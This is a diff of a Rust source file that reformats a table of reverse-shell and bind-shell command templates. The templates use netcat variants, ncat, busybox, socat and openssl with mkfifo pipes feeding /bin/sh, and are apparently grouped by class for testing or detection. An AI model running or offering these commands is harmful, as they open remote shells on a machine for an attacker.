@@ -16,14 +16,34 @@ pub(super) const ALL: &[Variant] = &[
         &["nc.openbsd"],
         &["sh", "-c", "mkfifo {dir}/f; cat {dir}/f | /bin/sh -i 2>&1 | nc.openbsd {ip} {port} >{dir}/f"],
     ),
-    Variant::tcp("nc.traditional -e", Class::Direct, &["nc.traditional"], &["nc.traditional", "{ip}", "{port}", "-e", "/bin/sh"])
-        .only_v4(),
+    Variant::tcp(
+        "nc.traditional -e",
+        Class::Direct,
+        &["nc.traditional"],
+        &["nc.traditional", "{ip}", "{port}", "-e", "/bin/sh"],
+    )
+    .only_v4(),
     Variant::tcp("ncat -e", Class::Pipe, &["ncat"], &["ncat", "-{n}", "{ip}", "{port}", "-e", "/bin/sh"]),
-    Variant::tcp("ncat --sh-exec", Class::Pipe, &["ncat"], &["ncat", "-{n}", "{ip}", "{port}", "--sh-exec", "bash -i 2>&1"]),
-    Variant::tcp("ncat --ssl -e", Class::Tls, &["ncat", "openssl"], &["ncat", "-{n}", "--ssl", "{ip}", "{port}", "-e", "/bin/sh"])
-        .over(Transport::Tls),
-    Variant::tcp("ncat --udp -e", Class::Udp, &["ncat"], &["ncat", "-{n}", "--udp", "{ip}", "{port}", "--sh-exec", "sh -i 2>&1"])
-        .over(Transport::Udp),
+    Variant::tcp(
+        "ncat --sh-exec",
+        Class::Pipe,
+        &["ncat"],
+        &["ncat", "-{n}", "{ip}", "{port}", "--sh-exec", "bash -i 2>&1"],
+    ),
+    Variant::tcp(
+        "ncat --ssl -e",
+        Class::Tls,
+        &["ncat", "openssl"],
+        &["ncat", "-{n}", "--ssl", "{ip}", "{port}", "-e", "/bin/sh"],
+    )
+    .over(Transport::Tls),
+    Variant::tcp(
+        "ncat --udp -e",
+        Class::Udp,
+        &["ncat"],
+        &["ncat", "-{n}", "--udp", "{ip}", "{port}", "--sh-exec", "sh -i 2>&1"],
+    )
+    .over(Transport::Udp),
     Variant::tcp("busybox nc -e", Class::Direct, &["busybox"], &["busybox", "nc", "{ip}", "{port}", "-e", "/bin/sh"]),
     Variant::tcp(
         "busybox sh + fifo + nc",
@@ -32,7 +52,12 @@ pub(super) const ALL: &[Variant] = &[
         &["busybox", "sh", "-c", "mkfifo {dir}/f; busybox sh -i <{dir}/f 2>&1 | busybox nc {ip} {port} >{dir}/f"],
     ),
     Variant::tcp("socat exec", Class::SocketPair, &["socat"], &["socat", "TCP{n}:{host}:{port}", "EXEC:/bin/sh"]),
-    Variant::tcp("socat exec,nofork", Class::Direct, &["socat"], &["socat", "TCP{n}:{host}:{port}", "EXEC:/bin/sh,nofork"]),
+    Variant::tcp(
+        "socat exec,nofork",
+        Class::Direct,
+        &["socat"],
+        &["socat", "TCP{n}:{host}:{port}", "EXEC:/bin/sh,nofork"],
+    ),
     Variant::tcp("socat exec,pipes", Class::Pipe, &["socat"], &["socat", "TCP{n}:{host}:{port}", "EXEC:/bin/sh,pipes"]),
     Variant::tcp(
         "socat openssl",
@@ -47,7 +72,11 @@ pub(super) const ALL: &[Variant] = &[
         "openssl s_client + fifo",
         Class::Tls,
         &["openssl"],
-        &["sh", "-c", "mkfifo {dir}/f; sh -i <{dir}/f 2>&1 | openssl s_client -quiet -connect {host}:{port} >{dir}/f 2>/dev/null"],
+        &[
+            "sh",
+            "-c",
+            "mkfifo {dir}/f; sh -i <{dir}/f 2>&1 | openssl s_client -quiet -connect {host}:{port} >{dir}/f 2>/dev/null",
+        ],
     )
     .over(Transport::Tls),
     Variant::tcp(
@@ -74,12 +103,23 @@ pub(super) const ALL: &[Variant] = &[
         &["nc.openbsd"],
         &["sh", "-c", "mkfifo {dir}/f; sh -i <{dir}/f 2>&1 | cat | cat | nc.openbsd {ip} {port} | cat >{dir}/f"],
     ),
-    Variant::tcp("nc.traditional -l -e", Class::Bind, &["nc.traditional"], &["nc.traditional", "-l", "-p", "{port}", "-e", "/bin/sh"])
-        .only_v4()
+    Variant::tcp(
+        "nc.traditional -l -e",
+        Class::Bind,
+        &["nc.traditional"],
+        &["nc.traditional", "-l", "-p", "{port}", "-e", "/bin/sh"],
+    )
+    .only_v4()
+    .listening(),
+    Variant::tcp("ncat -l -e", Class::Bind, &["ncat"], &["ncat", "-{n}", "-l", "-p", "{port}", "-e", "/bin/sh"])
         .listening(),
-    Variant::tcp("ncat -l -e", Class::Bind, &["ncat"], &["ncat", "-{n}", "-l", "-p", "{port}", "-e", "/bin/sh"]).listening(),
-    Variant::tcp("socat listen exec", Class::Bind, &["socat"], &["socat", "TCP{n}-LISTEN:{port},reuseaddr", "EXEC:/bin/sh"])
-        .listening(),
+    Variant::tcp(
+        "socat listen exec",
+        Class::Bind,
+        &["socat"],
+        &["socat", "TCP{n}-LISTEN:{port},reuseaddr", "EXEC:/bin/sh"],
+    )
+    .listening(),
     Variant::tcp(
         "socat listen pty",
         Class::Bind,
